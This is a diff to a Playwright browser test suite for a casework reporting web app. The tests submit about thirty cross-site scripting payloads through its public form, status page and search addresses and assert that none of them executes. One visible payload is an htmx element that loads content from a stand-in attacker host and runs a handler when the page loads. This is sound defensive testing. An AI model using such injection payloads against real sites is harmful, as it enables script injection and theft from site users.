@@ -4,13 +4,12 @@ from __future__ import annotations
 
 from collections.abc import Callable
 from typing import TYPE_CHECKING
+from urllib.parse import quote
 
 import pytest
 
 from casework.reports.management.demo_doors import Upload
-from tests.browser.people import People
 from tests.browser.sending import Sender, a_photo
-from tests.running import RunningInstallation
 
 if TYPE_CHECKING:
     from playwright.sync_api import Page
@@ -52,6 +51,8 @@ PAYLOADS = (
     f"<div hx-get=//evil.example hx-trigger=load hx-on::load={SHOUT}>\u2028%3Cscript%3E{SHOUT}",
 )
 ALL = "\n".join(PAYLOADS)
+#: As addresses: HTML takes a slash between attributes as well as a space.
+LINKS = "\n".join(f"https://pictures.example/{n}?q={'/'.join(text.split())}" for n, text in enumerate(PAYLOADS))
 
 
 def test_there_are_thirty_of_them() -> None:
@@ -72,9 +73,7 @@ def silent(desk: Desk) -> Callable[[Page], None]:
     return check
 
 
-def test_in_the_public_form_and_on_the_status_page(
-    desk: Desk, silent: Callable[[Page], None], installation: RunningInstallation
-) -> None:
+def test_in_the_public_form_and_on_the_status_page(desk: Desk, silent: Callable[[Page], None]) -> None:
     page = desk(None, refusals_expected=True)
     page.goto("/report/")
     for _ in range(12):
@@ -87,8 +86,7 @@ def test_in_the_public_form_and_on_the_status_page(
             box.check()
         for box in page.locator("main textarea, main input[type=text]").all():
             name, longest = box.get_attribute("name"), int(box.get_attribute("maxlength") or 5000)
-            links = "\n".join(f"https://pictures.example/{n}?q={payload}" for n, payload in enumerate(PAYLOADS))
-            box.fill(links if name == "links" else ALL[:longest])
+            box.fill(LINKS if name == "links" else ALL[:longest])
         page.locator("main button.is-primary").click()
         silent(page)
     reference, code = page.inner_text("#reference"), page.inner_text("#access-code")
@@ -152,19 +150,9 @@ def read_the_log(desk: Desk, silent: Callable[[Page], None], number: str) -> Non
         silent(lena)
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_in_the_address_of_a_search(people: People, search_page: Page, payload: str) -> None:
-    search_page.goto("/search/?" + "&".join(f"{name}={_quoted(payload)}" for name in ("q", "page", "show")))
-    assert search_page.evaluate("window.shouted") is None
-    assert search_page.locator("main [name=q]").input_value() == payload.replace("\n", "")
-
-
-@pytest.fixture
-def search_page(desk: Desk) -> Page:
-    return desk("mona", refusals_expected=True)
-
-
-def _quoted(payload: str) -> str:
-    from urllib.parse import quote
-
-    return quote(payload, safe="")
+def test_in_the_address_of_a_search(desk: Desk) -> None:
+    page = desk("mona", refusals_expected=True)
+    for payload in PAYLOADS:
+        page.goto("/search/?" + "&".join(f"{name}={quote(payload, safe='')}" for name in ("q", "page", "show")))
+        assert page.evaluate("window.shouted") is None
+        assert page.locator("main [name=q]").input_value() == payload
